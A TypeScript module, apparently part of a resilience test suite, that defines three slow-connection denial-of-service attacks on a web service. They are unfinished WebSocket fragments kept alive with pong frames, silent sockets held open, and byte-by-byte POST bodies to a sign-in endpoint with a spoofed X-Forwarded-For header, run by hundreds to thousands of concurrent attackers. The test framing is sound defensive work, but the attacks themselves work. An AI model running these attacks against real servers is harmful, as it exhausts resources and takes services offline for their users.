import { textPart } from "../support/message-parts.ts";
import type { Attack, Attacker } from "./attack.ts";
import { isOver, openLine, openSocket, sayHello } from "./raw-line.ts";

/** A message in fragments of one byte, sent together. Within its limit of bytes it would hold megabytes of them. */
const tinyFragments = Buffer.concat([
  textPart("x", { isFirst: true }),
  ...Array.from({ length: 16_000 }, () => textPart("x")),
]);
/** Most of a message, of which the rest never comes. */
const largeFragment = textPart("x".repeat(60_000), { isFirst: true });

/** A frame that may stand between fragments and says that the line is alive. */
const pong = Buffer.from([0x8a, 0x80, 0, 0, 0, 0]);

/** Messages that are begun and never finished: many tiny fragments of some, a large one of the others. */
export const fragments: Attack = {
  attackers: 800,
  pauseMs: 500,
  async go(attacker) {
    const socket = await openSocket(attacker);
    attacker.tally.begun += 1;
    if (socket) {
      sayHello(socket);
      socket.write(attacker.index % 4 < 2 ? tinyFragments : largeFragment);
      const beats = setInterval(() => socket.writable && socket.write(pong), 3_000);
      await isOver(socket);
      clearInterval(beats);
    }
    attacker.tally.refused += 1;
  },
};

/** Lines on which nothing is said, sockets without a hello, and customers who never write. */
export const silence: Attack = {
  attackers: 3_600,
  pauseMs: 1_000,
  async go(attacker) {
    const { index, tally } = attacker;
    tally.begun += 1;
    const socket = index % 3 === 0 ? openLine(attacker) : await openSocket(attacker);
    if (socket) {
      if (index % 3 === 1) sayHello(socket);
      await isOver(socket);
    }
    tally.refused += 1;
  },
};

/** Requests whose bodies come byte by byte. */
export const bodies: Attack = {
  attackers: 700,
  pauseMs: 500,
  async go(attacker) {
    const { address, tally } = attacker;
    const socket = openLine(attacker);
    tally.begun += 1;
    socket.write(headOf(attacker, address) + "x".repeat(30_000));
    const drops = setInterval(() => socket.writable && socket.write("x"), 500);
    await isOver(socket);
    clearInterval(drops);
    tally.refused += 1;
  },
};

function headOf({ target }: Attacker, address: string): string {
  const lines = [
    "POST /api/sign-in HTTP/1.1",
    `Host: ${new URL(target.url).host}`,
    `X-Forwarded-For: ${address}`,
    "Content-Type: application/json",
    "Content-Length: 60000",
  ];
  return `${lines.join("\r\n")}\r\n\r\n`;
}
